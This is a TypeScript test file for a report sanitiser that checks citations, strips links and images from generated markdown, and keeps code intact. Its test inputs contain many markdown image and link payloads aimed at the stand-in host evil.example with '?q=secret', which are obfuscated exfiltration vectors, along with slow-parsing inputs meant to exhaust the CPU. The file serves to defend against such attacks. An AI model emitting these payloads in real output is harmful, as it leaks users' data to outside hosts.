// The text of a report on its way to the page: citations are checked, links are removed, and code stays as it is.
import { describe, expect, test } from 'vitest';
import { createSplitter, definitionsOf, withDefinitions } from '../../../shared/markdown/blocks.ts';
import { parseMarkdown } from '../../../shared/markdown/parse.ts';
import { costOf } from '../../../shared/testing/cpu-cost.ts';
import { hostileTexts } from '../../../shared/testing/hostile-texts.ts';
import { checkCitations, unprovenMark } from './citations.ts';
import type { Prove } from './citations.ts';
import { ReportBlocks } from './report-blocks.ts';

function written(
  chunks: readonly string[],
  prove: Prove = () => true,
): { readonly text: string; readonly first: number } {
  const blocks = new ReportBlocks();
  let text = '';
  let first = -1;
  chunks.forEach((chunk, at) => {
    for (const block of blocks.add(chunk)) text += checkCitations(block, prove).text;
    if (text !== '' && first === -1) first = at;
  });
  for (const block of blocks.end()) text += checkCitations(block, prove).text;
  return { text, first };
}
const whole = (text: string): string => written([text]).text;
const inPieces = (text: string, length = 7): string =>
  written(text.match(new RegExp(`[\\s\\S]{1,${length}}`, 'g')) ?? []).text;

/** Addresses that a page would load or link to. */
function addressesIn(text: string): readonly string[] {
  const definitions = definitionsOf(text);
  const found: string[] = [];
  const visit = ({ type, url, children }: { type: string; url?: string; children?: readonly never[] }): void => {
    if (url !== undefined && !url.startsWith('mailto:')) found.push(`${type} ${url}`);
    children?.forEach(visit);
  };
  for (const block of createSplitter().update(text, true))
    if (!block.code) visit(parseMarkdown(withDefinitions(block.text, definitions)) as never);
  visit(parseMarkdown(text) as never);
  return found;
}

describe('citations', () => {
  const asked: string[] = [];
  const prove = (sentence: string, number: number): boolean => {
    asked.push(`${number}: ${sentence}`);
    return !sentence.includes('wrong') && number < 9;
  };
  const check = (line: string): string => {
    asked.length = 0;
    return written([line], prove).text;
  };

  test.each([
    ['before the period', 'It is long [1].', 'It is long [1].', ['1: It is long']],
    ['after the period', 'First. It is long.[2] More.', 'First. It is long.[2] More.', ['2: It is long.']],
    ['several', 'It is long [1][3].', 'It is long [1][3].', ['1: It is long', '3: It is long']],
    ['in one pair of brackets', 'It is long [1, 3].', 'It is long [1][3].', ['1: It is long', '3: It is long']],
    [
      'an abbreviation',
      'It is approx. 3.5 m long, e.g. here [1].',
      undefined,
      ['1: It is approx. 3.5 m long, e.g. here'],
    ],
    ['a list', '- **It** is long [1]', undefined, ['1: It** is long']],
    ['a numbered list', '12. It is long [1]', undefined, ['1: It is long']],
    ['a cell', '| Mostar | It is long [1] |', undefined, ['1: It is long']],
    ['two in one sentence', 'It is long [1] and old [2].', undefined, ['1: It is long', '2: and old']],
    ['Chinese', '很旧。它很长[1]。', undefined, ['1: 它很长']],
    ['a wrong one', 'It is wrong [1].', `It is wrong ${unprovenMark}.`, ['1: It is wrong']],
    ['one of two', 'It is long [1][9].', 'It is long [1].', ['1: It is long', '9: It is long']],
    ['a link as a citation', 'It is long [1](https://evil.example/).', 'It is long [1].', ['1: It is long']],
    ['a task list', '- [x] done [ ] open', '- [x] done [ ] open', []],
  ])('%s', (_name, line, text, sentences) => {
    expect(check(line)).toBe(text ?? line);
    expect(asked).toEqual(sentences);
  });

  test.each([
    ['a picture', 'See ![the plan](https://evil.example/?q=secret) here', 'See the plan here'],
    ['a link', 'See [the plan](https://evil.example/?q=(secret)) here', 'See the plan here'],
    ['a bare address', 'See https://evil.example/?q=secret here', 'See  here'],
    ['a definition', '[plan]: https://evil.example/?q=secret', ''],
    ['an address in angle brackets', 'See <https://evil.example/> here', 'See  here'],
    ['HTML', 'See <img src="https://evil.example/"> here', 'See  here'],
  ])('carries nothing to an address: %s', (_name, line, text) => {
    expect(check(line)).toBe(text);
  });
});

describe('nothing is carried to an address', () => {
  const evil = '//evil.example/?q=secret';
  test.each([
    ['brackets in the text', `![a [b] c](${evil})`],
    ['an escaped bracket', `![a\\]b](https&#58;${evil})`],
    ['an address on the next line', `See [x](\n${evil}) here`],
    ['a definition on two lines', `[a]:\n${evil}\n\n![z][a]`],
    ['a definition in a quote', `> [a]: ${evil}\n\n![z][a]`],
    ['a definition after its use', `![z][a]\n\nText.\n\n[a]: ${evil}`],
    ['a definition in code', `\`\`\`\n[a]: ${evil}\n\`\`\`\n\n![z][a]`],
    ['a line that is no definition', `Text\n[a]: ${evil}\n\n![z][a]`],
    ['an address without a scheme', 'See www.evil.example/?q=secret here'],
    ['an address with entities', 'See https:&#47;&#47;evil.example/?q=secret here'],
    ['an address with escapes', 'See https\\://evil.example/?q=secret here'],
    ['a picture in a link', `[![a](${evil})](${evil})`],
    ['links in the text of pictures', `![[[a](${evil})](${evil})](${evil})`],
    ['a link as text of a picture', `![&#91;a&#93;(${evil})](x)`],
    ['a fence as text of a link', `[\`\`\`](${evil})\n\n\`\`\`\n[x](${evil})\n\`\`\``],
    ['a fence as text of a picture', `![~~~](${evil})\n\n~~~\n[x](${evil})\n~~~`],
    ['a table', `| a | b |\n|---|---|\n| ![x](${evil}) | \`a|b\` [y](${evil}) |`],
    ['a list', `- a\n\n  ![x](${evil})\n- b`],
    ['a footnote', `Text[^1].\n\n[^1]: ![x](${evil})`],
    ['a comment', `<!--\n\n\`\`\`\n\n-->\n\n[x](${evil})\n\n\`\`\``],
    ['a fold', `<details><summary>a</summary>\n\n![x](${evil})\n\n</details>`],
    ['a fold on one line', `<div><details>[x](${evil})</details></div>`],
    ['HTML on two lines', `a <img\nsrc="${evil}"> b`],
    ['an open fence in HTML', `<pre>\n\`\`\`\n</pre>\n\n![x](${evil})\n\n\`\`\``],
    ['an invisible character', `\uFEFF![x](${evil})`],
    ['other line ends', `[a]:\r\n${evil}\r\r![z][a]`],
    ['a citation', `It is long [1](${evil}) and old [1]: ${evil}`],
    ['a nested citation', `[a [9]](${evil}) [1, 9](${evil}) [9][1]\n\n[1]: ${evil}`],
    [
      'an endless paragraph',
      `${'word '.repeat(6000)}\n\`\`\`\n![x](${evil}) www.evil.example\n\`\`\`\n\n![x](${evil})`,
    ],
    ['an endless word', `${'a'.repeat(40_010)}www.evil.example/?q=secret`],
    ['an endless word that cuts an address', `${'a'.repeat(19_999)}www.evil.example/?q=secret ![x](//evil.example)`],
  ])('%s', (_name, text) => {
    const results = [whole(text), inPieces(text), inPieces(text, 1), inPieces(text, 300)];
    for (const result of results) expect(addressesIn(result)).toEqual([]);
  });

  test('in random text', () => {
    const parts = [
      '[',
      ']',
      '(',
      ')',
      '!',
      '`',
      '```',
      '~~~',
      '\n',
      '\n\n',
      '\n',
      ' ',
      '    ',
      '- ',
      '> ',
      '1. ',
      '|',
      '|-|',
      '<',
      '>',
      '<a href=',
      '<details>',
      '<!--',
      '-->',
      '\\',
      '$',
      '$$',
      '\\[',
      '\\]',
      '//evil.example',
      'https://evil.example',
      'www.evil.example',
      '[a]: //evil.example',
      '![z][a]',
      '[x](//evil.example)',
      '![x](//evil.example)',
      '<https://evil.example>',
      '[^1]: ',
      '[1]',
      'word',
      '**',
      '_',
      '&#91;',
      ':',
      '"',
    ];
    let seed = 7;
    const random = (below: number): number => (seed = (seed * 48_271) % 2_147_483_647) % below;
    for (let round = 0; round < 1500; round++) {
      const text = Array.from({ length: 3 + random(25) }, () => parts[random(parts.length)] ?? '').join('');
      const result = inPieces(text, 1 + random(30));
      expect({ text, addresses: addressesIn(result) }).toEqual({ text, addresses: [] });
    }
  }, 60_000);
});

test.each([
  ['an index in code', 'Use `a[0]` and ``b[1]`c`` [2].', 'Use `a[0]` and ``b[1]`c`` [2].'],
  ['a link in code', 'Write `[a](https://a.example)`.', 'Write `[a](https://a.example)`.'],
  [
    'a fence',
    'So [2]:\n\n```js\na[0] = b[1];\n\nfetch("https://a.example");\n```\n\nDone [9].',
    'So [2]:\n\n```js\na[0] = b[1];\n\nfetch("https://a.example");\n```\n\nDone [?].',
  ],
  ['a fence that the model did not end', '```\na[0]', '```\na[0]'],
  ['type parameters', 'A Map<String, List<Integer>> is long [2].', 'A Map<String, List<Integer>> is long [2].'],
  ['comparisons', 'It is so if a <b and c> d.', 'It is so if a <b and c> d.'],
  ['formulas', 'It is $a[1]$ and\n\n$$\nb[1]\n$$\n\nlong.', 'It is $a[1]$ and\n\n$$\nb[1]\n$$\n\nlong.'],
  ['an address of mail', 'Write to a@b.example.', 'Write to a@b.example.'],
  ['the rest of a link', 'See **[the *plan*](https://a.example "t") now**.', 'See **the *plan* now**.'],
  ['a table', '| a | b |\n|---|---|\n| [x](https://a.example) | y [2] |\n', '| a | b |\n|---|---|\n| x | y [2] |\n'],
  ['a footnote', 'Long[^1].\n\n[^1]: Very [2].', 'Long[^1].\n\n[^1]: Very [2].'],
])('the text stays: %s', (_name, text, expected) => {
  const prove: Prove = (_sentence, number) => number === 2;
  expect(written([text], prove).text).toBe(expected);
  expect(written([...text], prove).text).toBe(expected);
});

test('a block is passed on as soon as the next one begins', () => {
  const paragraph = 'The bridge was opened in 1566, as its builders say [1].\n\n';
  expect(written([paragraph, 'And', ' it is still there today.\n', 'So.\n\n', 'The end.']).first).toBe(2);
});

describe('hostile reports cost little', () => {
  const lines = [
    '<:',
    '<a',
    'a. b ',
    '[',
    '![',
    '[a](',
    '[1](',
    '\\[',
    '[1',
    '[1] ',
    '**',
    '1, ',
    '.)',
    '` `` ',
    '<a b=',
    'a.\n',
    '- a\n\n',
    '> ',
    '[a]: b\n',
    '$a[1]$ ',
    '<!-- ',
    'www.a.b ',
    '&#47;',
  ].map((part) => [JSON.stringify(part), part.repeat(20_000 / part.length)] as const);
  test.each([...lines, ...Object.entries(hostileTexts).map(([name, textOf]) => [name, textOf(20_000)] as const)])(
    '%s',
    (_name, text) => {
      const report = `${text} [1]`;
      whole(report.slice(0, 1000));
      // 15 ms each.
      expect(costOf(() => void whole(report))).toBeLessThan(150);
      expect(costOf(() => void inPieces(report, 20))).toBeLessThan(400);
    },
  );
}, 60_000);
